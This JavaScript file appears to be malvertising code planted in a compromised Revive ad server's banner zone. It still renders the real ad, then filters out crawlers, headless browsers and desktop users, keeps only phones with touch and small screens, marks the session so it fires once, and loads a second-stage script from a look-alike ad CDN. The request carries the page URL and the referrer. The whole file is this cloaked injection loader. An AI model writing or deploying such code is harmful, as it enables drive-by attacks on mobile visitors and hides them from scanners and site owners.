// Served by a compromised Revive ad server inside the banner code of a zone, next to the
// real creative: the invocation tag still renders the ad, and the appended part checks that
// the visitor is on a phone (user agent, touch, orientation, a small screen) and not a
// crawler, then loads the next stage from a look-alike ad CDN with the zone and the page in
// the query string. Desktop visitors see only the ad.
(function () {
  var zone = "31", pub = "a7f3c2";
  var ins = document.querySelector("ins[data-revive-zoneid='" + zone + "']");
  if (ins && !ins.firstChild) {
    var img = document.createElement("img");
    img.src = "https://ads.newsroom-partner.example/www/images/728x90_spring.jpg";
    img.width = 320; img.height = 50;
    var a = document.createElement("a");
    a.href = "https://ads.newsroom-partner.example/www/delivery/ck.php?zoneid=" + zone;
    a.appendChild(img);
    ins.appendChild(a);
  }
  var ua = navigator.userAgent;
  if (/bot|crawl|spider|headless|lighthouse|adsbot|mediapartners/i.test(ua)) return;
  if (!/Android|iPhone|iPad|iPod/i.test(ua)) return;
  if (!("ontouchstart" in window) || navigator.maxTouchPoints < 1) return;
  if (typeof window.orientation === "undefined" || screen.width > 900) return;
  if (sessionStorage.getItem("rv_" + zone)) return;
  sessionStorage.setItem("rv_" + zone, "1");
  var s = document.createElement("script");
  s.async = true;
  s.src = "https://cdn.adsrv-static.invalid/js/rv.min.js?z=" + zone + "&p=" + pub +
    "&u=" + encodeURIComponent(location.href) + "&r=" + encodeURIComponent(document.referrer) +
    "&t=" + Date.now();
  (document.head || document.documentElement).appendChild(s);
})();
